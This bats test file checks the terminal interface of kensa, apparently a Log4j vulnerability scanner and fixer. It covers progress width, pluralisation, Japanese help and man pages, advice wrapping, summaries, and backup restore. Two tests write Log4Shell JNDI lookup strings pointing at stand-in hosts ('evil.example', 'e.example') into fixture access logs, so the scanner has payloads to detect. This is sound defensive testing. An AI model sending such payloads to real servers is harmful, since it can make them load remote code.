#!/usr/bin/env bats
# ux.bats - people at a terminal: progress fitted to the width, wrapped
# advice once per run, -q, the summary by threat and severity, Japanese
# help and man page, restore's messages, and --help agreeing with the
# man pages.

bats_require_minimum_version 1.5.0
load helpers

setup_file() {
    make_fixtures
}

@test "progress: one line no wider than the terminal, singular and plural" {
    command -v script >/dev/null || skip "script(1) not installed"
    run script -qec "stty cols 50; '$KENSA' log4j --threads 1 --json -o /dev/null '$FX/plain/log4j-core-2.14.1.jar'" /dev/null
    [[ "$output" == *"0 files, "*"0 findings: "* ]]
    [[ "$output" != *" 1 files"* && "$output" != *" 1 findings"* ]]
    # every redrawn line fits 49 columns
    while IFS= read -r l; do
        l=${l##*$'\033[K'}
        [ "${#l}" -le 49 ] || { echo "too wide: $l"; false; }
    done < <(printf '%s' "$output" | tr '\r' '\n' | grep 'files/s')
    run script -qec "'$KENSA' log4j --threads 1 '$FX/plain'" /dev/null
    [[ "$output" == *" files, "* ]]
    [[ "$output" != *" 1 files"* && "$output" != *" 1 findings"* ]]
}

@test "summary of one file: 1 object, not 1 objects (Japanese has no plural)" {
    T="$BATS_TEST_TMPDIR/one"; mkdir -p "$T"
    echo hello > "$T/a.txt"
    run --separate-stderr "$KENSA" scan --threads 1 --color never "$T"
    [ "$status" -eq 0 ]
    grep -qxF 'Scanned files: 1 (0.0 MB, 1 object)' <<<"$stderr"
    [[ "$stderr" != *"1 objects"* ]]
    run --separate-stderr "$KENSA" scan --threads 1 --color never --lang ja "$T"
    grep -qxF 'スキャンしたファイル：1 件（0.0 MB、オブジェクト 1 個）' <<<"$stderr"
    # two: the plural, as before
    echo again > "$T/b.txt"
    run --separate-stderr "$KENSA" scan --threads 1 --color never "$T"
    grep -qxF 'Scanned files: 2 (0.0 MB, 2 objects)' <<<"$stderr"
    # a log hunt with one hit in a file: "1 hit"
    echo 'GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1' > "$T/access.log"
    run --separate-stderr "$KENSA" logs --threads 1 --color never --no-summary "$T"
    [[ "$output" == *"access.log: 1 hit, first"* ]]
}

@test "advice wrapped to 80 columns when not a terminal, once, --no-advice drops it" {
    # once per threat seen (plain/ holds Log4Shell and residual Log4j 2)
    threats=$(k log4j --json "$FX/plain" 2>/dev/null |
              jq -r 'select(.kensa.threat) | .kensa.threat' | sort -u | wc -l)
    [ "$threats" -ge 2 ]
    run k log4j "$FX/plain"
    [ "$(grep -c 'Mitigation:' <<<"$output")" -eq "$threats" ]
    ! awk 'length > 80 && /^    /' <<<"$output" | grep -q .
    run k log4j --no-advice "$FX/plain"
    [ "$status" -eq 1 ]
    [[ "$output" != *"Mitigation:"* && "$output" == *"CRITICAL"* ]]
}

@test "Japanese advice wraps between characters, not inside ASCII words, CJK two columns" {
    run k log4j --lang ja "$FX/plain/log4j-core-2.14.1.jar"
    [[ "$output" == *"対策："* ]]
    python3 - "$output" <<'X'
import sys, unicodedata
for l in sys.argv[1].splitlines():
    if not l.startswith('    ') or l.startswith('     '):
        continue
    w = sum(2 if unicodedata.east_asian_width(c) in 'WF' else 1 for c in l)
    assert w <= 80, (w, l)
    assert not l.lstrip().startswith(('、', '。', '）')), l
X
    ! grep -q 'JndiLookup.cl$' <<<"$output"
}

@test "-q keeps version, CVEs and evidence" {
    run k log4j -q "$FX/plain/log4j-core-2.14.1.jar"
    [ "$status" -eq 1 ]
    [[ "$output" == *"CVE-2021-44228"* && "$output" == *"evidence:"* ]]
    [[ "$output" != *"Mitigation"* ]]
}

@test "summary counts by threat and by severity, in both languages" {
    run "$KENSA" log4j --threads 1 "$FX/plain/log4j-core-2.14.1.jar"
    [[ "$output" == *"Findings: 1 (log4shell: 1)"* ]]
    [[ "$output" == *"By severity: critical 1"* ]]
    run "$KENSA" log4j --threads 1 --lang ja "$FX/plain/log4j-core-2.14.1.jar"
    [[ "$output" == *"重大度別：緊急 1 件"* ]]
}

@test "text report shows a log line's time in ISO 8601 with its zone" {
    printf '1.2.3.4 - - [10/Dec/2021:13:45:12 +0000] "GET /?x=${jndi:ldap://e.example/a} HTTP/1.1" 200 1\n' > "$BATS_TEST_TMPDIR/access.log"
    TZ=Asia/Tokyo run k logs "$BATS_TEST_TMPDIR/access.log"
    [ "$status" -eq 1 ]
    [[ "$output" == *"2021-12-10T22:45:12+09:00"* ]]
}

@test "kensa alone says a command is missing; COMMAND --help; --color yes/no" {
    run "$KENSA"
    [ "$status" -eq 2 ]
    [[ "$output" == *"missing command"* ]]
    run "$KENSA" log4j --help
    [ "$status" -eq 0 ]
    [[ "$output" == *"Usage: kensa log4j"* && "$output" == *"--restore"* ]]
    [[ "$output" != *"--export-iocs"* ]]
    run "$KENSA" logs --help --lang ja
    [[ "$output" == *"使い方：kensa logs"* && "$output" == *"--export-iocs"* ]]
    run "$KENSA" --color yes --help
    [ "$status" -eq 0 ]
    run k log4j --color no "$FX/plain/log4j-core-2.14.1.jar"
    [ "$status" -eq 1 ]
    run "$KENSA" --color maybe --help
    [ "$status" -eq 2 ]
    [[ "$output" == *"--color"* ]]
}

@test "--help in Japanese, with LANG=ja_JP and --lang ja" {
    LANG=ja_JP.UTF-8 run "$KENSA" --help
    [[ "$output" == *"使い方"* && "$output" == *"オプション"* ]]
    run "$KENSA" --help --lang ja
    [[ "$output" == *"このヘルプを表示"* ]]
}

@test "restore: a missing backup says so; DIR restores all; a changed file needs --force" {
    d="$BATS_TEST_TMPDIR/app" b="$BATS_TEST_TMPDIR/bk"
    mkdir -p "$d"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$d/a.jar"
    cp "$FX/plain/log4j-core-2.14.1.jar" "$d/b.jar"
    orig=$(sha256sum < "$d/a.jar")
    run "$KENSA" log4j --threads 1 --fix --backup-dir "$b" "$d"
    [ "$(sha256sum < "$d/a.jar")" != "$orig" ]
    run "$KENSA" log4j --restore "$b/nosuch.kensa-bak"
    [ "$status" -eq 2 ]
    [[ "$output" == *"backup is missing"* ]]
    echo upgraded > "$d/b.jar"
    run "$KENSA" log4j --restore "$b"
    [ "$status" -eq 2 ]
    [[ "$output" == *"no longer the one kensa wrote"* ]]
    [ "$(sha256sum < "$d/a.jar")" = "$orig" ]
    [ "$(cat "$d/b.jar")" = upgraded ]
    run "$KENSA" log4j --restore --force "$b"
    [ "$status" -eq 0 ]
    [ "$(sha256sum < "$d/b.jar")" = "$orig" ]
}

@test "--help and the man pages list the same options, and the NAME line names logs" {
    help=$("$KENSA" --help | grep -o -- '--[a-z0-9-]*' | sort -u)
    [ -n "$help" ]
    for page in kensa.1.scd kensa.ja.1.scd; do
        man=$(grep -o -- '^\*\(-[a-zA-Z], \)\?--[a-z0-9-]*' "$KENSA_TOP/docs/$page" | grep -o -- '--[a-z0-9-]*' | sort -u)
        [ "$help" = "$man" ] || { diff <(echo "$help") <(echo "$man"); false; }
    done
    grep -q '^kensa - .*logs' "$KENSA_TOP/docs/kensa.1.scd"
    "$KENSA" --help | grep -q 'fix modifies the files'
    "$KENSA" --help | grep -q 'SIZE takes K, M, G or T'
    grep -q 'K, M, G or T suffix' "$KENSA_TOP/docs/kensa.1.scd"
}

@test "man pages: every command of --help in both synopses; the Japanese page has every section of the English one" {
    cmds=$("$KENSA" --help | sed -n '/^Commands:/,/^$/p' | grep -oE '^  [a-z0-9]+' | tr -d ' ')
    [ "$(echo "$cmds" | wc -l)" -ge 7 ]
    for page in kensa.1.scd kensa.ja.1.scd; do
        for c in $cmds; do
            grep -qE "^\*kensa\* $c( |$)" "$KENSA_TOP/docs/$page" || { echo "$page: no $c"; false; }
        done
        grep -q 'K, M, G\|K、M、G、T' "$KENSA_TOP/docs/$page"
    done
    # the same sections, in the same order (NAME .. SEE ALSO)
    [ "$(grep -c '^# ' "$KENSA_TOP/docs/kensa.1.scd")" = "$(grep -c '^# ' "$KENSA_TOP/docs/kensa.ja.1.scd")" ]
    # exit statuses and environment variables the English page documents
    for w in '^\*130\*, \*143\*' '^\*TMPDIR\*' '^\*NO_COLOR\*' 'SIZE'; do
        grep -q "$w" "$KENSA_TOP/docs/kensa.ja.1.scd" || { echo "ja: no $w"; false; }
    done
    # --help and both pages agree that --fix modifies files
    grep -q -- '--fix\* は脆弱な' "$KENSA_TOP/docs/kensa.ja.1.scd"
    grep -q 'except by \*kensa log4j --fix\*' "$KENSA_TOP/docs/kensa.1.scd"
    "$KENSA" --help --lang ja | grep -q 'K、M、G、T'
}

